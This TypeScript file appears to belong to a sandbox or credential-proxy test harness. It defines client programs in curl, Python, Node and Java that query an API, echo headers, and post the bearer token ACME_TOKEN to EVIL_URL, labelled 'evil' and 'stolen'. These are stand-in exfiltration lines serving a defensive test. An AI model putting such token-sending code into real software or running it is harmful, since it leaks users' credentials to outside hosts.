/**
 * Clients as people have them. Each asks API_URL for `/v1/me`, lets `/echo` repeat its headers, and
 * offers the token to EVIL_URL; it prints `me`, `echo` and `evil`, each with status and body.
 */
export interface ClientProgram {
  readonly name: string;
  /** The file it is written to. */
  readonly file: string;
  readonly text: string;
  readonly command: readonly string[];
  /** Set in the box only, where the network is another. */
  readonly boxEnv?: Readonly<Record<string, string>>;
}

const CURL = `
set -u
show() {
  name=$1; shift
  answer=$(curl -sS -w '%{http_code}' $CURL_FLAGS "$@") || exit
  echo $name $answer
}
show me -H "Authorization: Bearer $ACME_TOKEN" "$API_URL/v1/me"
show echo -H "Authorization: Bearer $ACME_TOKEN" -d hello=world "$API_URL/echo"
show evil -H "Authorization: Bearer $ACME_TOKEN" -d "stolen=$ACME_TOKEN" "$EVIL_URL/echo"
`;

const URLLIB = `
import os, urllib.error, urllib.request
def show(name, url, data=None):
    headers = {"Authorization": "Bearer " + os.environ["ACME_TOKEN"]}
    try:
        answer = urllib.request.urlopen(urllib.request.Request(url, data, headers))
    except urllib.error.HTTPError as error:
        answer = error
    print(name, answer.status, answer.read().decode())
show("me", os.environ["API_URL"] + "/v1/me")
show("echo", os.environ["API_URL"] + "/echo", b"hello")
show("evil", os.environ["EVIL_URL"] + "/echo", os.environ["ACME_TOKEN"].encode())
`;

const PYTHON_CLIENT = `
import os, sys
client = __import__(sys.argv[1])
auth = {"Authorization": "Bearer " + os.environ["ACME_TOKEN"]}
def show(name, answer):
    print(name, answer.status_code, answer.text)
show("me", client.get(os.environ["API_URL"] + "/v1/me", headers=auth))
show("echo", client.post(os.environ["API_URL"] + "/echo", headers=auth, data={"a": "b"}))
show("evil", client.post(os.environ["EVIL_URL"] + "/echo", headers=auth, data=auth))
`;

const NODE_FETCH = `
const { API_URL, EVIL_URL, ACME_TOKEN } = process.env;
const headers = { authorization: 'Bearer ' + ACME_TOKEN };
const show = async (name, url, body) => {
  const answer = await fetch(url, body === undefined ? { headers } : { headers, method: 'POST', body });
  console.log(name, answer.status, await answer.text());
};
await show('me', API_URL + '/v1/me');
await show('echo', API_URL + '/echo', 'hello');
await show('evil', EVIL_URL + '/echo', ACME_TOKEN);
`;

const NODE_HTTPS = `
import { request } from 'node:https';
const { API_URL, EVIL_URL, ACME_TOKEN } = process.env;
const headers = { Authorization: 'Bearer ' + ACME_TOKEN };
const show = (name, url, body) => new Promise((done, fail) => {
  const sent = request(url, { method: body ? 'POST' : 'GET', headers }, async (answer) => {
    let text = '';
    for await (const chunk of answer) text += chunk;
    console.log(name, answer.statusCode, text);
    done();
  });
  sent.on('error', fail).end(body);
});
await show('me', API_URL + '/v1/me');
await show('echo', API_URL + '/echo', 'hello');
await show('evil', EVIL_URL + '/echo', ACME_TOKEN);
`;

const JAVA = `
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;

class Client {
  static final HttpClient CLIENT = HttpClient.newHttpClient();
  static final String TOKEN = System.getenv("ACME_TOKEN");

  static void show(String name, String url, String body) throws Exception {
    var request = HttpRequest.newBuilder(URI.create(url)).header("Authorization", "Bearer " + TOKEN);
    if (body != null) request.POST(HttpRequest.BodyPublishers.ofString(body));
    var answer = CLIENT.send(request.build(), BodyHandlers.ofString());
    System.out.println(name + " " + answer.statusCode() + " " + answer.body());
  }

  public static void main(String[] args) throws Exception {
    show("me", System.getenv("API_URL") + "/v1/me", null);
    show("echo", System.getenv("API_URL") + "/echo", "hello");
    show("evil", System.getenv("EVIL_URL") + "/echo", TOKEN);
  }
}
`;

const NO_PROXY = 'unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy';

function curl(name: string, flags: string, before = ''): ClientProgram {
  return {
    name: `curl (${name})`,
    file: 'curl.sh',
    text: `CURL_FLAGS=\${CURL_FLAGS-}\n${before}\n${CURL}`,
    command: ['sh', 'curl.sh'],
    boxEnv: { CURL_FLAGS: flags },
  };
}

export const CLIENTS: readonly ClientProgram[] = [
  curl('by the proxy', ''),
  curl('without the proxy', '', NO_PROXY),
  curl('HTTP/1.1 over IPv4', '--http1.1 -4', NO_PROXY),
  curl('IPv6', '-6', NO_PROXY),
  {
    name: 'Python urllib',
    file: 'with-urllib.py',
    text: URLLIB,
    command: ['/usr/bin/python3', 'with-urllib.py'],
  },
  {
    name: 'Python urllib without the proxy',
    file: 'with-urllib.py',
    text: URLLIB,
    command: ['/usr/bin/python3', 'with-urllib.py'],
    boxEnv: { HTTPS_PROXY: '', https_proxy: '' },
  },
  {
    name: 'Python requests',
    file: 'client.py',
    text: PYTHON_CLIENT,
    command: ['/usr/bin/python3', 'client.py', 'requests'],
  },
  {
    name: 'Python httpx',
    file: 'client.py',
    text: PYTHON_CLIENT,
    command: ['/usr/bin/python3', 'client.py', 'httpx'],
  },
  { name: 'Node fetch', file: 'fetch.mjs', text: NODE_FETCH, command: ['node', 'fetch.mjs'] },
  { name: 'Node https', file: 'https.mjs', text: NODE_HTTPS, command: ['node', 'https.mjs'] },
];

/** Needs a JDK: it is run from its source. */
export const JAVA_CLIENT: ClientProgram = {
  name: 'OpenJDK HttpClient',
  file: 'client.java',
  text: JAVA,
  command: ['java', '-XX:TieredStopAtLevel=1', 'client.java'],
};
